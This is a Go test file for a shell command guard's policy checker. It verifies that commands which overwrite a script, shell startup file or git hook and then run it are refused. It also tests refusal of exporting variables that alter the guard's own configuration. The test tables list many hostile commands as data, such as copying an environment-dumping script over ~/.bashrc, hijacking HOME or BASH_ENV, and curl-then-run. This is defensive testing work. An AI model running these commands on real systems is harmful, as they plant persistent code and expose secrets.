@@ -1,0 +1,193 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/guarded-sh/guarded-sh/lexer"
+)
+
+// writesEnv makes a project with a harmless script s.sh, a script evil.sh
+// and a program evil.py that run a marker the policy refuses (touch
+// MARKER; printenv), and a home directory d/ with a login profile that
+// does the same: the files issue 11 swaps in after the check.
+func writesEnv(t *testing.T) *Env {
+	t.Helper()
+	root := t.TempDir()
+	proj, home := filepath.Join(root, "proj"), filepath.Join(root, "home")
+	for name, text := range map[string]string{
+		"proj/s.sh":              "echo hi\n",
+		"proj/evil.sh":           "touch MARKER; printenv\n",
+		"proj/evil.py":           "import os\nos.system('touch MARKER; printenv')\n",
+		"proj/d/.bash_profile":   "touch MARKER; printenv\n",
+		"proj/z/.zshenv":         "touch MARKER; printenv\n",
+		"proj/notes.txt":         "a\n",
+		"home/.bashrc":           "alias ll='ls -l'\n",
+		"proj/.env":              "FOO=1\nBAR=2\n",
+		"proj/guarded.env":       "GUARDED_SH_CONFIG=/tmp/loose.toml\n",
+		"proj/home.env":          "HOME=/tmp/elsewhere\n",
+		"proj/sub/placeholder.x": "",
+	} {
+		p := filepath.Join(root, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink("s.sh", filepath.Join(proj, "link.sh")); err != nil {
+		t.Fatal(err)
+	}
+	env := testEnv()
+	env.Cwd, env.Project, env.Home = proj, proj, home
+	return env
+}
+
+// TestWrittenThenRun is issue 11.7 and 11.8: a file the input writes, by
+// any means, before a shell runs it (as a script, as its input, or as a
+// startup file) is judged by what it will hold, or refused when that is
+// only known at run time; startup files are judged wherever a shell reads
+// them. "" is allowed.
+func TestWrittenThenRun(t *testing.T) {
+	env := writesEnv(t)
+	p := New()
+	for _, tc := range []struct{ cmd, rule string }{
+		// 11.8: replaced before it runs.
+		{`cp evil.sh s.sh; bash s.sh`, "cred.env-dump"},
+		{`cp -f evil.sh s.sh && sh ./s.sh`, "cred.env-dump"},
+		{`mv evil.sh s.sh; bash s.sh`, "cred.env-dump"},
+		{`ln -sf evil.sh s.sh; bash s.sh`, "cred.env-dump"},
+		{`ln -sf "$PWD/evil.sh" s.sh; bash s.sh`, "sys.written-code"},
+		{`install evil.sh s.sh; source s.sh`, "cred.env-dump"},
+		{`dd if=evil.sh of=s.sh; . ./s.sh`, "cred.env-dump"},
+		{`tee s.sh < evil.sh >/dev/null; bash s.sh`, "cred.env-dump"},
+		{`cat evil.sh | tee s.sh; bash s.sh`, "cred.env-dump"},
+		{`cp evil.sh s.sh; bash < s.sh`, "cred.env-dump"},
+		{`cp evil.py s.py; python3 s.py`, "cred.env-dump"},
+		{`sed -i 's/echo hi/printenv/' s.sh; bash s.sh`, "sys.written-code"},
+		{`perl -pi -e 's/hi/x/' s.sh; bash s.sh`, "sys.written-code"},
+		{`curl -so s.sh https://example.invalid/s; bash < s.sh`, "sys.written-code"},
+		{`wget -qO s.sh https://example.invalid/s && ./s.sh`, "sys.written-code"},
+		{`tar xf t.tar; bash s.sh`, "sys.written-code"},
+		{`tar -xzf t.tgz -C . && ./s.sh`, "sys.written-code"},
+		{`unzip -o a.zip; bash s.sh`, "sys.written-code"},
+		{`rsync -a /tmp/other/ ./; bash s.sh`, "sys.written-code"},
+		{`cp -r /tmp/other/. .; bash s.sh`, "sys.written-code"},
+		{`git clone https://example.invalid/r.git; bash r/install.sh`, "sys.written-code"},
+		{`make 2> s.sh; bash s.sh`, "sys.written-code"},
+		{`(sleep 1; cp evil.sh s.sh) & bash s.sh`, "cred.env-dump"},
+		{`bash s.sh & cp evil.sh s.sh`, "cred.env-dump"},
+		{`bash s.sh & sed -i 's/hi/x/' s.sh`, "sys.written-code"},
+		{`bash s.sh & echo printenv >> s.sh`, "cred.env-dump"},
+		{`export BASH_ENV=s.sh; cp evil.sh s.sh; bash -c true`, "cred.env-dump"},
+		{`BASH_ENV=s.sh bash -c 'cp evil.sh s.sh; true'`, "cred.env-dump"},
+		{`ln -s s.sh run.sh; cp evil.sh s.sh; bash run.sh`, "cred.env-dump"},
+		{`ln -s s.sh run.sh; sed -i 's/hi/x/' s.sh; bash run.sh`, "sys.written-code"},
+		{`bash link.sh & cp evil.sh s.sh`, "cred.env-dump"},
+		{`cp evil.sh link.sh; bash s.sh`, "cred.env-dump"},
+		// 11.7: startup files.
+		{`cp evil.sh ~/.bashrc`, "cred.env-dump"},
+		{`cat evil.sh >> ~/.bashrc`, "cred.env-dump"},
+		{`tee -a ~/.profile < evil.sh`, "cred.env-dump"},
+		{`install -m 644 evil.sh ~/.bash_profile`, "cred.env-dump"},
+		{`dd if=evil.sh of=$HOME/.zshrc`, "cred.env-dump"},
+		{`ln -sf "$(pwd)/evil.sh" ~/.bashrc`, "cred.env-dump"},
+		{`ln -sf "$X/evil.sh" ~/.bashrc`, "sys.written-code"},
+		{`sed -i '$a printenv' ~/.bashrc`, "sys.written-code"},
+		{`curl -so ~/.bashrc https://example.invalid/rc`, "sys.written-code"},
+		{`rsync evil.sh ~/.bash_aliases`, "sys.written-code"},
+		{`tar xf dotfiles.tar -C ~`, "sys.written-code"},
+		{`cp -r dotfiles/. ~/`, "sys.written-code"},
+		{`bash --rcfile evil.sh -i`, "cred.env-dump"},
+		{`bash --init-file evil.sh -c true`, "cred.env-dump"},
+		{`bash --rcfile "$f" -i`, "sys.written-code"},
+		{`HOME=$PWD/d bash -l -c true`, "sys.written-code"},
+		{`HOME=` + env.Cwd + `/d bash -lc true`, "cred.env-dump"},
+		{`env HOME=` + env.Cwd + `/d bash -i`, "cred.env-dump"},
+		{`HOME=` + env.Cwd + `/d guarded-sh -lc true`, "self.env"},
+		{`ZDOTDIR=` + env.Cwd + `/z zsh -c true`, "cred.env-dump"},
+		{`ENV=evil.sh sh -i`, "cred.env-dump"},
+		{`BASH_ENV=evil.sh bash -c true`, "cred.env-dump"},
+		{`cp evil.sh ~/.bashrc; guarded-sh -ic true`, "cred.env-dump"},
+		{`git checkout other-branch && ./s.sh`, "sys.written-code"},
+		{`git stash pop; bash s.sh`, "sys.written-code"},
+		{`patch -p1 < fix.diff && bash s.sh`, "sys.written-code"},
+		{`cp evil.sh .git/hooks/pre-commit; git commit -m x`, "cred.env-dump"},
+		{`curl -so .git/hooks/pre-commit https://example.invalid/h`, "sys.written-code"},
+		{`cp evil.sh ~/.config/fish/config.fish`, "cred.env-dump"},
+		// The same words as data, and writes that run nothing.
+		{`git stash list; bash s.sh`, ""},
+		{`git checkout -b feature`, ""},
+		{`cp .git/hooks/pre-commit.sample /tmp/x`, ""},
+		{`cp s.sh t.sh; bash t.sh`, ""},
+		{`echo hi > out.txt; bash s.sh`, ""},
+		{`sed -i 's/a/b/' notes.txt; bash s.sh`, ""},
+		{`tar xf t.tar -C /tmp/unpacked; bash s.sh`, ""},
+		{`gcc -o prog main.c && ./prog`, ""},
+		{`curl -so s2.sh https://example.invalid/s`, ""},
+		{`cat ~/.bashrc; grep alias ~/.bashrc`, ""},
+		{`cp ~/.bashrc /tmp/bashrc.bak`, ""},
+		{`echo 'alias ll="ls -l"' >> ~/.bashrc`, ""},
+		{`bash -lc 'echo hi'`, ""},
+		{`bash --rcfile s.sh -i`, ""},
+		{`git commit -m "cp evil.sh ~/.bashrc"`, ""},
+	} {
+		v := p.Check(tc.cmd, lexer.Bash, env)
+		got := ""
+		if v.Action != Allow {
+			got = v.First().Rule
+		}
+		if got != tc.rule && !(tc.rule != "" && hasRule(v, tc.rule)) {
+			t.Errorf("%s: got %q (%s), want %q", tc.cmd, got, v.First().Reason, tc.rule)
+		}
+	}
+}
+
+// TestExportFromFiles is issue 11.10: names exported from computed text
+// are judged as the names the files it filters hold, or refused.
+func TestExportFromFiles(t *testing.T) {
+	env := writesEnv(t)
+	p := New()
+	for _, tc := range []struct{ cmd, rule string }{
+		{`export $(cat guarded.env)`, "self.env"},
+		{`export $(grep -v '^#' home.env | xargs)`, "self.env"},
+		{`echo GUARDED_SH_CONFIG=/tmp/x > v.env; export $(cat v.env)`, "self.env"},
+		{`export $(grep -v '^#' .env | xargs)`, ""},
+		{`export $(cat missing.env)`, ""},
+	} {
+		v := p.Check(tc.cmd, lexer.Bash, env)
+		got := ""
+		if v.Action != Allow {
+			got = v.First().Rule
+		}
+		if got != tc.rule {
+			t.Errorf("%s: got %q (%s), want %q", tc.cmd, got, v.First().Reason, tc.rule)
+		}
+	}
+}
+
+// TestSelfByLink is issue 11.6: guarded-sh under another name (a link to
+// the running program, as a link named sh to it would be) is a shell
+// whose input is followed.
+func TestSelfByLink(t *testing.T) {
+	self, err := os.Executable()
+	if err != nil {
+		t.Skip(err)
+	}
+	env := writesEnv(t)
+	if err := os.Symlink(self, filepath.Join(env.Cwd, "mysh")); err != nil {
+		t.Skip(err)
+	}
+	p := New()
+	if v := p.Check(`./mysh -s <<< 'touch MARKER; printenv'`, lexer.Bash, env); v.Action == Allow {
+		t.Errorf("./mysh (a link to this program) fed a refused command: allowed")
+	}
+	if v := p.Check(`./mysh --guard check 'touch MARKER; printenv'`, lexer.Bash, env); v.Action != Allow {
+		t.Errorf("./mysh --guard check: %s [%s]", v.Action, v.First().Rule)
+	}
+	if c, ok := RunsInput(Analyze(`./mysh`, lexer.Bash, env)); !ok {
+		t.Errorf("RunsInput(./mysh) = %v, false; want true", c)
+	}
+}
